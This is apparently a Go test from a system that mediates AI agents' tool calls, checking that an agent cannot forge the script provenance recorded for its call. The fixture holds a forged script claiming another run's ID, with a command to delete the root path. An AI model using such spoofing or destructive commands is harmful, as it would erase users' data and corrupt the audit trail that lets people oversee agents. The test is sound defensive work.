// as its annotations_trusted and on_behalf_of_verified are.
func TestAnAgentCannotForgeTheScriptItsCallCameFrom(t *testing.T) {
	p := startProdLayout(t, "evil")
	_, adminJS := p.nats.Connect(natsauth.RoleAdmin)
	evil := connectAgent(t, p.nats.CredentialFile("evil"), p.nats.Server.URL())
	forged := &airlockv1.Script{Digest: "sha256:" + strings.Repeat("ab", 32), RunId: "run-of-someone-else", Index: 3, Text: "await fs.delete_file({path: '/'})",
		Preview: []string{"demo__echo"}}
	evil.publishRaw(&airlockv1.ToolCall{CallId: "forged-script", Server: "demo", Tool: "echo", Arguments: writeArgs("x.txt", "x"), Script: forged})
	ev := testenv.WaitForEvent(t, adminJS, subject.OfCall("evil", "forged-script"), subject.Requested, 20*time.Second)
	if s := ev.GetRequested().GetCall().GetScript(); s != nil {
		t.Fatalf("the agent's own script was recorded as the call's provenance: %v", s)
	}
}
